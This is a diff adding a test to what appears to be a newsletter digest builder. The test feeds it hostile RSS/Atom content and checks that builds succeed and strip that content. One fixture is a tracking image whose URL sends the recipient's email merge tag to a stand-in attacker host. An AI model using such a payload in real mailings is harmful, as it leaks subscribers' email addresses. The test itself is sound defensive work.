@@ -577,3 +577,63 @@ def test_fetch_json_reports_the_real_failure_count(server: FeedServer, tmp_path:
     counts = [run_fetch(project).feed("Case")["failures"] for _ in range(3)]
     assert counts == [1, 2, 3]
     assert run_fetch(project).feed("Good")["failures"] == 0
+
+
+# -- issue 10: hostile content, through `digest build` as a real process ----------------
+
+XML_BASE_CONTROL = (
+    b'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"'
+    b' xml:base="http://exa\x19mple.org/news/"><title>Base</title><id>b</id>'
+    b"<updated>2025-12-18T10:00:00Z</updated><entry><title>Lawyer released on bail</title>"
+    b"<link href='lawyer.html'/><id>base-1</id><updated>2025-12-18T10:00:00Z</updated>"
+    b"<content type='html'>&lt;p&gt;Released &lt;img src='lawyer.jpg' width='600'&gt;&lt;/p&gt;"
+    b"</content></entry></feed>"
+)
+MERGE_TAG_FEED = rss(
+    [
+        entry(
+            60,
+            title="Charges dropped *|EMAIL|* {{ .Subscriber.Email }}",
+            description='<p>Free <img src="https://attacker.example/p.png?e=*|EMAIL|*" '
+            'width="600" alt="%recipient.email%"></p>',
+        )
+    ]
+).replace(b"https://example.org/60", b"https://example.org/60?u=*|UNSUB|*")
+BAD_REFERENCE_FEED = rss(
+    [entry(70), entry(71, title="Verdict &#x110000; overturned"), entry(72)]
+).replace(b"&amp;#x110000;", b"&#x110000;")
+STRAY_BYTE_FEED = rss(
+    [entry(80, title="Libération de la défenseure des droits"), entry(81, title="Égalité")]
+).replace(b"droits", b"dr\xffoits")
+
+
+def test_hostile_content_never_stops_or_garbles_a_build(server: FeedServer, tmp_path: Path) -> None:
+    feeds = {
+        "xmlbase": (XML_BASE_CONTROL, "application/atom+xml"),
+        "tags": (MERGE_TAG_FEED, "application/rss+xml"),
+        "refs": (BAD_REFERENCE_FEED, "application/rss+xml"),
+        "stray": (STRAY_BYTE_FEED, "text/xml"),
+    }
+    for name, (body, ctype) in feeds.items():
+        server.route(f"/{name}", Reply(200, body, {"Content-Type": ctype}))
+    project = make_project(tmp_path / "p", server.url("/xmlbase"), server.url("/good"))
+    with open(project / "feeds" / "feeds.toml", "a") as f:
+        for name in ("tags", "refs", "stray"):
+            f.write(f'[[feed]]\nname = "{name}"\nurl = "{server.url("/" + name)}"\n')
+    for _ in range(2):  # the second build reads everything back from the store
+        proc = subprocess.run(
+            [sys.executable, "-m", "digest", "build", "-p", str(project), "--as-of", AS_OF,
+             "--esp", "mailchimp", "--force", "--json"],
+            capture_output=True, text=True, timeout=120,
+        )  # fmt: skip
+        assert proc.returncode == 0, proc.stderr
+        out = Path(json.loads(proc.stdout)["out_dir"])
+        html = (out / "newsletter.html").read_text()
+        text = (out / "newsletter.txt").read_text()
+        manifest = json.loads((out / "manifest.json").read_text())
+        assert manifest["lint"]["ok"], manifest["lint"]["findings"]
+        for body in (html, text):
+            assert "\x19" not in body and "*|EMAIL|*" not in body and "{{" not in body
+        assert "http://example.org/news/lawyer.jpg" in html
+        assert "Libération de la défenseure des dr\ufffdoits" in html
+    assert feed_row(project, "refs")["entry_ids"] == ["id-70", "id-71", "id-72"]
